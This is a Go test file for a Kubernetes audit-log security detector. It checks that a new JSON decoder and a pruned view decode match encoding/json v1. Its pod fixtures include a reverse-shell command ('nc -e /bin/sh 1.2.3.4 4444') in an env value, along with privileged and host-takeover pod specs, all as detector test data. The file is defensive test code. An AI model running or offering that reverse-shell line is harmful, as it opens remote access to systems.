package detect

import (
	"bytes"
	"compress/gzip"
	jsonv1 "encoding/json"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"k8s.io/apimachinery/pkg/runtime"
	auditv1 "k8s.io/apiserver/pkg/apis/audit/v1"

	"github.com/vnfguard/vnfguard/internal/danger"
	"github.com/vnfguard/vnfguard/rules"
)

// decodeObjectV1 is decodeObject as it was, with encoding/json v1: the reading decodeObject must keep.
func decodeObjectV1(raw []byte) map[string]any {
	var m map[string]any
	if len(raw) == 0 || jsonv1.Unmarshal(raw, &m) != nil || m == nil {
		return map[string]any{}
	}
	return m
}

// corpusFiles returns the JSON-lines audit corpora of the repository: the benchmark corpus, the detect and audit
// packages' fixtures, and the audit log recorded from a real API server (corpus/testdata, uncompressed here).
func corpusFiles(t testing.TB) [][]byte {
	t.Helper()
	var out [][]byte
	for _, path := range []string{
		"testdata/corpus.jsonl", "testdata/cases/events.jsonl", "testdata/exec-get.json",
		"../audit/testdata/corpus.jsonl", "corpus/testdata/audit.jsonl.gz",
	} {
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if filepath.Ext(path) == ".gz" {
			zr, err := gzip.NewReader(bytes.NewReader(data))
			if err != nil {
				t.Fatal(err)
			}
			if data, err = io.ReadAll(zr); err != nil {
				t.Fatalf("%s: %v", path, err)
			}
		}
		out = append(out, data)
	}
	return out
}

// corpusBodies returns every request and response body of the corpora and of the rule test suites.
func corpusBodies(t testing.TB) [][]byte {
	t.Helper()
	var bodies [][]byte
	add := func(ev *auditv1.Event) {
		for _, u := range []*runtime.Unknown{ev.RequestObject, ev.ResponseObject} {
			if u != nil {
				bodies = append(bodies, u.Raw)
			}
		}
	}
	for _, ev := range corpusEvents(t) {
		add(ev)
	}
	suites, err := LoadSuites(rules.FS, "tests")
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range suites {
		for _, c := range s.Cases {
			for _, ev := range c.events {
				add(ev)
			}
		}
	}
	return bodies
}

// TestDecodeObjectMatchesV1: the body decoder reads every body of the corpora, and each edge case of v1's reading
// (duplicate names, invalid UTF-8, escapes, numbers, non-objects), exactly as encoding/json v1 did.
func TestDecodeObjectMatchesV1(t *testing.T) {
	bodies := corpusBodies(t)
	if len(bodies) < 100 {
		t.Fatalf("only %d bodies in the corpora: the comparison would prove little", len(bodies))
	}
	edge := []string{
		`{}`, `null`, `[]`, `[{"a":1}]`, `"s"`, `1`, `true`, ``, `{"a":1}x`, `{"a":1} `, ` {"a":1}`, `{"a":}`, `{"a":1,}`,
		`{"a":{"x":1,"z":[1]},"a":{"y":2}}`,          // duplicate: v1 replaces, never merges
		`{"metadata":{"labels":{"p":"1","p":null}}}`, // duplicate inside
		"{\"k\":\"a\xffb\",\"\xfe\":1}",              // invalid UTF-8 in a value and a name
		`{"e":"\u00e9\ud83d\ude00\ud800x\n\"\\\/"}`,  // escapes, a surrogate pair, a lone surrogate
		`{"n":[0,-0,1.5e3,12345678901234567890,1e-400,-1E+2]}`,
		`{"big":1e400}`, // out of range: v1 fails the whole body
		`{"deep":[[[[[[[[[[{"a":[{"b":null}]}]]]]]]]]]]}`,
		`{"t":true,"f":false,"z":null,"s":"","o":{},"l":[]}`,
		`{"kind":"Pod","spec":{"hostPID":true,"containers":[{"name":"c","securityContext":{"privileged":true}}]}}`,
	}
	for _, s := range edge {
		bodies = append(bodies, []byte(s))
	}
	for _, raw := range bodies {
		got := decodeObject(&runtime.Unknown{Raw: raw})
		if want := decodeObjectV1(raw); !reflect.DeepEqual(got, want) {
			t.Errorf("body %.120q:\ngot  %#v\nwant %#v", raw, got, want)
		}
	}
	if got := decodeObject(nil); got == nil || len(got) != 0 {
		t.Errorf("decodeObject(nil) = %#v, want an empty map", got)
	}
}

// prune is a fully decoded value cut to a shape, as the view decode must give it.
func prune(v any, sh *shape) any {
	if sh == nil {
		return v
	}
	switch x := v.(type) {
	case map[string]any:
		if sh.fields == nil {
			return v
		}
		out := map[string]any{}
		for k, sub := range sh.fields {
			if val, ok := x[k]; ok {
				out[k] = prune(val, sub)
			}
		}
		return out
	case []any:
		if sh.elem == nil {
			return v
		}
		out := make([]any, len(x))
		for i := range x {
			out[i] = prune(x[i], sh.elem)
		}
		return out
	}
	return v
}

// helperReading is everything the engine's own helpers read of an object: what objectMeta, podSpecOf, hostTakeover,
// podCommands and danger.PodOfMap make of it.
func helperReading(obj map[string]any) any {
	var meta any
	if md, ok := obj["metadata"].(map[string]any); ok {
		meta = metaFromMap(md)
	}
	spec := podSpecOf(obj)
	return []any{obj["kind"], meta, hostTakeover(spec), podCommands(spec), danger.PodOfMap(spec)}
}

// viewEdgeBodies are bodies that test the view's shape: members in any order, duplicates (last wins, also of a
// whole spec), values of the wrong kind where the shape wants an object or an array, numbers out of range in members
// the view leaves out (the full decode then fails, and so must the view), and workloads and CronJobs.
var viewEdgeBodies = []string{
	`{"spec":{"hostPID":true},"kind":"Pod"}`,
	`{"kind":"Pod","spec":{"hostPID":true},"spec":{"hostIPC":true}}`,
	`{"kind":"Pod","spec":{"containers":[{"name":"a"}],"containers":"x"}}`,
	`{"kind":"Pod","spec":{"containers":["s",1,null,{"name":"b","securityContext":{"privileged":true,"capabilities":{"add":["SYS_ADMIN",1]}}}]}}`,
	`{"kind":"Pod","spec":{"containers":{"name":"a"},"volumes":[{"name":"v","hostPath":{"path":"/"}},{"hostPath":"/"},"x"]}}`,
	`{"kind":"Pod","spec":{"containers":[{"env":["x",{"value":"nc -e /bin/sh 1.2.3.4 4444","name":"E"},{"value":2}],"command":"sh"}]}}`,
	`{"kind":"Pod","status":{"x":1e400},"spec":{"hostPID":true}}`,
	`{"kind":"Pod","status":{"x":"1e400"},"spec":{"hostPID":true}}`,
	`{"kind":"Pod","apiVersion":"v1","metadata":{"uid":12345678901234567890123,"name":"p"},"spec":{}}`,
	`{"kind":"Pod","metadata":{"annotations":{"a":"b"},"x":[1e308,-1e309]}}`,
	`{"kind":"Pod","metadata":{"x":"\"1e400"}}`,
	`{"kind":"Pod","metadata":{"x":"` + strings.Repeat("9", 400) + `"},"y":` + strings.Repeat("9", 400) + `}`,
	`{"kind":"Pod","y":` + strings.Repeat("9", 300) + `}`,
	`{"kind":"Pod","y":0.` + strings.Repeat("0", 400) + `1}`,
	`{"kind":"Pod","metadata":[],"spec":[]}`,
	`{"kind":"Pod","metadata":{"name":1,"namespace":"n","labels":{"a":"b","c":1},"ownerReferences":[{"kind":"ReplicaSet","name":"r","controller":true,"uid":"u"},"x",{"controller":"true"}]}}`,
	`{"kind":"Deployment","spec":{"replicas":1,"template":{"metadata":{},"spec":{"hostNetwork":true,"initContainers":[{"name":"i","livenessProbe":{"exec":{"command":["a","b"]}},"lifecycle":{"postStart":{"exec":{"command":["c"]}},"preStop":{"httpGet":{}}}}]}}}}`,
	`{"kind":"CronJob","spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"securityContext":{"runAsUser":0},"containers":[{"name":"c","securityContext":{"runAsUser":0.5,"runAsNonRoot":false}}]}}}}}}`,
	`{"kind":"Pod","spec":{"template":{"spec":{"hostPID":true}},"hostIPC":true}}`,
	`{"kind":"Status","metadata":{"name":"x"}}`,
	`{"ki\u006ed":"Pod","sp\u0065c":{"hostPID":true}}`,
	"{\"kind\":\"Pod\",\"spec\":{\"containers\":[{\"name\":\"\xff\"}]},\"\xfe\":1}",
	`{"kind":null,"metadata":{"name":"n"}}`,
}

// TestBodyViewIsFullDecodePruned: the view of every body of the corpora and of viewEdgeBodies is its full decode
// cut to viewShape, and the helpers read the same of both.
func TestBodyViewIsFullDecodePruned(t *testing.T) {
	bodies := corpusBodies(t)
	for _, s := range viewEdgeBodies {
		bodies = append(bodies, []byte(s))
	}
	pods := 0
	for _, raw := range bodies {
		full := decodeObject(&runtime.Unknown{Raw: raw})
		view := decodeView(&runtime.Unknown{Raw: raw})
		if want := prune(full, viewShape); !reflect.DeepEqual(view, want) {
			t.Errorf("body %.200q:\nview   %#v\npruned %#v", raw, view, want)
		}
		if got, want := helperReading(view), helperReading(full); !reflect.DeepEqual(got, want) {
			t.Errorf("body %.200q: the helpers read\n%#v from the view,\n%#v from the full decode", raw, got, want)
		}
		if full["kind"] == "Pod" {
			pods++
		}
	}
	if pods < 20 {
		t.Errorf("only %d pod bodies compared", pods)
	}
	if got := decodeView(nil); got == nil || len(got) != 0 {
		t.Errorf("decodeView(nil) = %#v, want an empty map", got)
	}
}

// FuzzDecodeObject holds the body decoder to encoding/json v1's reading on any input: same map, or both {}; and the
// view decode to the full decode cut to viewShape, with the same reading by the helpers.
func FuzzDecodeObject(f *testing.F) {
	for i, raw := range corpusBodies(f) {
		if i%5 == 0 { // a sample is enough to seed; the fuzzer mutates from there
			f.Add(raw)
		}
	}
	f.Add([]byte(`{"a":{"x":1},"a":{"y":2},"b":"\ud800"}`))
	f.Add([]byte("{\"k\":\"\xff\"}"))
	for _, s := range viewEdgeBodies {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		got := decodeObject(&runtime.Unknown{Raw: raw})
		if want := decodeObjectV1(raw); !reflect.DeepEqual(got, want) {
			t.Fatalf("body %q:\ngot  %#v\nwant %#v", raw, got, want)
		}
		view := decodeView(&runtime.Unknown{Raw: raw})
		if want := prune(got, viewShape); !reflect.DeepEqual(view, want) {
			t.Fatalf("body %q:\nview   %#v\npruned %#v", raw, view, want)
		}
		if a, b := helperReading(view), helperReading(got); !reflect.DeepEqual(a, b) {
			t.Fatalf("body %q: the helpers read\n%#v from the view,\n%#v from the full decode", raw, a, b)
		}
	})
}

func BenchmarkDecodeObject(b *testing.B) {
	var bodies [][]byte
	for _, l := range corpusLines(b) {
		var ev auditv1.Event
		if err := jsonv1.Unmarshal(l, &ev); err != nil {
			b.Fatal(err)
		}
		if ev.RequestObject != nil {
			bodies = append(bodies, ev.RequestObject.Raw)
		}
	}
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		decodeObject(&runtime.Unknown{Raw: bodies[i%len(bodies)]})
	}
}
